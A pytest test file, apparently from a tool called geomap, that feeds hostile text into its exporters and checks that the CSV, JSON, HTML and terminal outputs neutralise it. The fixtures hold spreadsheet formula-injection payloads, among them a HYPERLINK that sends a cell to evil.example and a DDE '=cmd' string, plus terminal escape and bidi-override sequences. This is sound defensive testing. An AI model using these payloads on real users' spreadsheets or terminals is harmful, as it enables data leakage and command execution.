"""Outputs safe to open: every CSV geomap writes, on a hostile theatre, opens in pandas with no
options and holds no live formula; the terminal gets no control or bidi character; no ``-0.0``."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from geomap._csv import formula_safe, meta_lines, read_csv, write_csv, write_frame
from geomap._text import strip_bidi, terminal_text
from geomap.cli import main
from geomap.cli._ledger_out import fmt_km2
from geomap.errors import ProblemCollector
from geomap.render._escape import format_km2, html_text, script_json

TESTS = Path(__file__).parents[1]
TINY = TESTS / "data" / "tiny"
ACLED = TESTS / "importers" / "data" / "acled_sample.csv"
ACLED_THEATRE = TESTS / "importers" / "data" / "theatre"
GEONAMES = TESTS / "importers" / "data" / "SY_sample.txt"

ESC = "\x1b[2J\x1b]0;owned\x07"
BIDI = "\u202e"
HOSTILE_NAMES = {
    "RED": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "BLUE": "+1",
    "GREEN": f"@SUM(A1){ESC}{BIDI}Green",
}
HOSTILE_TITLE = 'Tiny\n=cmd|" /C calc"!A0\r\n# injected'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The tiny theatre with formula, escape and bidi text in names, sources and the title."""
    folder = tmp_path / "hostile"
    shutil.copytree(TINY, folder)
    actors = pd.read_csv(folder / "actors.csv", dtype=str, keep_default_na=False)
    actors["name"] = actors["id"].map(HOSTILE_NAMES)
    actors["aliases"] = ""
    actors.to_csv(folder / "actors.csv", index=False)  # raw: the hostile text as a user wrote it
    toml = (folder / "theatre.toml").read_text(encoding="utf-8")
    toml = toml.replace(
        'title = "Tiny example theatre (invented events)"', f"title = {json.dumps(HOSTILE_TITLE)}"
    )
    (folder / "theatre.toml").write_text(toml, encoding="utf-8")
    events = (folder / "events.csv").read_text(encoding="utf-8")
    events = events.replace("invented wire report", "@evil source").replace(
        "counter-attack", "-2+3"
    )
    (folder / "events.csv").write_text(events, encoding="utf-8")
    return folder


def _live_formulas(df: pd.DataFrame) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers are numbers, not formulas)."""
    bad = []
    for col in df.columns:
        for v in [col, *df[col].tolist()]:
            if isinstance(v, str) and v.startswith(FORMULA_STARTS):
                try:
                    float(v)
                except ValueError:
                    bad.append(v)
    return bad


def _assert_safe_csv(text_or_path, *, name: str) -> pd.DataFrame:
    source = io.StringIO(text_or_path) if isinstance(text_or_path, str) else text_or_path
    df = pd.read_csv(source)  # no options
    assert len(df.columns) > 1, name
    assert _live_formulas(df) == [], name
    raw = text_or_path if isinstance(text_or_path, str) else Path(text_or_path).read_text("utf-8")
    assert "\x1b" not in raw and BIDI not in raw, name
    assert "-0.000" not in raw and ",-0.0," not in raw, name
    return df


def _run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize(
    "argv",
    [
        ("gains", "--format", "csv"),
        ("gains", "--format", "csv", "--by", "total", "--radius", "15,25"),
        ("claims", "--format", "csv"),
        ("diff", "2020-01-01", "2020-01-31", "--format", "csv"),
    ],
    ids=["gains", "gains-sensitivity", "claims", "diff"],
)
def test_csv_on_stdout_opens_in_pandas_with_no_live_formula(hostile, capsys, argv):
    code, out, err = _run(capsys, argv[0], hostile, *argv[1:])
    assert code == 0, err
    assert not out.startswith("#")  # metadata is not in the CSV body
    _assert_safe_csv(out, name=argv[0])
    assert "\x1b" not in err and BIDI not in err


def test_gains_csv_file_has_its_metadata_in_a_sidecar(hostile, capsys, tmp_path):
    out = tmp_path / "gains.csv"
    code, stdout, err = _run(capsys, "gains", hostile, "--csv", out, "--by", "week")
    assert code == 0, err
    df = _assert_safe_csv(out, name="gains --csv")
    names = set(df["actor_name"].dropna())
    assert "'" + HOSTILE_NAMES["RED"] in names  # neutralised, not dropped
    assert 1 in set(df["actor_name"]) or "1" in names or "+1" in names  # a number stays a number
    meta = json.loads((tmp_path / "gains.json").read_text(encoding="utf-8"))
    assert meta["model"] if "model" in meta else meta  # what the figures rest on, beside the CSV
    assert stdout == ""


def test_with_meta_escapes_newlines_in_metadata(hostile, capsys):
    code, out, err = _run(capsys, "gains", hostile, "--format", "csv", "--with-meta")
    assert code == 0, err
    lines = out.splitlines()
    head = [ln for ln in lines if ln.startswith("#")]
    body = lines[len(head) :]
    assert head and lines[: len(head)] == head  # every metadata line is a comment line
    assert body[0].startswith("period_start,")  # the title's newline injected no row
    assert "=cmd" not in "\n".join(body)
    _assert_safe_csv("\n".join(body), name="gains --with-meta body")


def test_snapshot_gains_csv(two_snapshots, capsys):
    code, out, err = _run(capsys, "snapshot-gains", two_snapshots, "--format", "csv")
    assert code == 0, err
    _assert_safe_csv(out, name="snapshot-gains")


def test_extract_drafts_csv(tmp_path, capsys):
    article = tmp_path / "a.txt"
    article.write_text(
        "Reds seize Arak\n\nPALMYRA, 6 January 2020 - The reds captured Arak from the blues "
        "on Sunday.\n",
        encoding="utf-8",
    )
    out = tmp_path / "drafts.csv"
    code, _, err = _run(
        capsys,
        "extract",
        article,
        "--theatre",
        TINY,
        "--source",
        '=HYPERLINK("http://evil")\u202e',
        "--date",
        "2020-01-06",
        "--out",
        out,
    )
    assert code == 0, err
    df = _assert_safe_csv(out, name="extract")
    assert len(df) >= 1 and df["source"].str.startswith("'=HYPERLINK").all()


def test_import_acled_and_its_new_places(tmp_path, capsys):
    theatre = tmp_path / "theatre"
    shutil.copytree(ACLED_THEATRE, theatre)
    sample = tmp_path / "acled.csv"
    text = ACLED.read_text(encoding="utf-8").replace("SANA", "=SANA()").replace("Arak", "@Arak")
    sample.write_text(text, encoding="utf-8")
    out = tmp_path / "drafts.csv"
    code, _, err = _run(capsys, "import-acled", sample, "--theatre", theatre, "--out", out)
    assert code == 0, err
    _assert_safe_csv(out, name="import-acled")
    _assert_safe_csv(tmp_path / "drafts_new_places.csv", name="import-acled places")


def test_import_geonames(tmp_path, capsys):
    sample = tmp_path / "SY.txt"
    lines = GEONAMES.read_text(encoding="utf-8").splitlines()
    first = lines[0].split("\t")
    first[1] = first[2] = "=HYPERLINK(1)"
    sample.write_text("\n".join(["\t".join(first), *lines[1:]]) + "\n", encoding="utf-8")
    out = tmp_path / "places.csv"
    code, _, err = _run(
        capsys, "import-geonames", sample, "--country", "SY", "--out", out, "--feature-class", "P,S"
    )
    assert code == 0, err
    df = _assert_safe_csv(out, name="import-geonames")
    assert (df["name"] == "'=HYPERLINK(1)").any()


# ------------------------------------------------------------------ the one writer and text rules
@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("-2", "-2"),
        ("+1.5", "+1.5"),
        (-3.25, "-3.25"),
        (-0.0, "0.0"),
        ("Palmyra", "Palmyra"),
        (f"a{BIDI}b", "ab"),
    ],
)
def test_write_csv_neutralises_formulas_keeps_numbers(value, cell):
    buf = io.StringIO()
    write_csv(buf, ["v"], [[value]])
    got = buf.getvalue().splitlines()[1]
    assert got.strip('"') == cell


def test_written_cells_read_back_as_written(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["id", "note"], [["a", "=1+1"], ["b", "-2+3"], ["c", "'plain"]])
    table = read_csv(path, required=["id", "note"], problems=ProblemCollector())
    assert [r["note"] for _, r in table] == ["=1+1", "-2+3", "'plain"]


def test_write_frame_negative_zero_and_missing():
    buf = io.StringIO()
    df = pd.DataFrame({"a": [-0.0, -0.0001, 1.23456, float("nan")], "b": ["x", None, "=y", "z"]})
    write_frame(buf, df)
    assert buf.getvalue().splitlines() == ["a,b", "0.000,x", "0.000,", "1.235,'=y", ",z"]


def test_meta_lines_stay_one_line_each():
    assert meta_lines({"title": "a\r\nb"}) == ["# title: a\\r\\nb"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred", "\\x1b[31mred"),
        ("bell\x07", "bell\\x07"),
        ("c1\x9b", "c1\\u009b"),
        (f"rtl{BIDI}", "rtl\\u202e"),
        ("\u2066iso\u2069", "\\u2066iso\\u2069"),
        ("tab\tnew\nline", "tab\tnew\nline"),
        ("دير الزور", "دير الزور"),
    ],
)
def test_terminal_text(text, shown):
    assert terminal_text(text) == shown


def test_pages_drop_bidi_controls_and_negative_zero():
    assert html_text(f"a{BIDI}<b>") == "a&lt;b&gt;"
    assert BIDI not in script_json({"name": f"x{BIDI}\u2067y"})
    assert "\u2067" not in script_json({"name": "x\u2067y"})
    assert strip_bidi("\u202aa\u202cb") == "ab"
    long = "é" * 70  # over 64 characters and not ASCII: the scan for each control
    for control in ("\u202e", "\u2067", "\u2069"):
        assert strip_bidi(f"{long}{control}<b>{long}") == f"{long}<b>{long}"
    assert strip_bidi(long) == long
    assert html_text(f"{long}\u202e<x>") == html_text(f"{long}\u202e<x>") == f"{long}&lt;x&gt;"
    assert format_km2(-0.0) == "0 km²" and format_km2(-0.3) == "-0.3 km²"
    assert fmt_km2(-0.04) == "0.0"


def test_formula_safe_is_idempotent_on_safe_cells():
    assert formula_safe(formula_safe("=x")) == "'=x"


def test_gains_table_terminal_output_is_clean(hostile, capsys):
    code, out, err = _run(capsys, "gains", hostile, "--by", "total")
    assert code == 0, err
    assert "\x1b" not in out and BIDI not in out
    assert "\\x1b[2J" in out  # shown, not dropped
    code, out, err = _run(capsys, "claims", hostile)
    assert code == 0 and "\x1b" not in out + err and BIDI not in out + err


def test_json_on_stdout_stays_valid_json(hostile, capsys):
    code, out, err = _run(capsys, "gains", hostile, "--by", "total", "--format", "json")
    assert code == 0, err
    doc = json.loads(out)  # escapes shown on the terminal are JSON escapes: the data is intact
    assert "\x1b" not in out and BIDI not in out
    names = {r["actor_name"] for r in doc["ledger"]}
    assert HOSTILE_NAMES["GREEN"].replace(BIDI, "") in {n.replace(BIDI, "") for n in names}


def test_check_messages_show_escapes(hostile, capsys):
    actors = (hostile / "actors.csv").read_text("utf-8").replace("#2ca02c", "#zz\x1b[31m")
    (hostile / "actors.csv").write_text(actors, "utf-8")
    code, out, err = _run(capsys, "check", hostile)
    assert code == 1
    assert "\x1b" not in out + err and "'#zz\\x1b[31m' is not a hex colour" in out
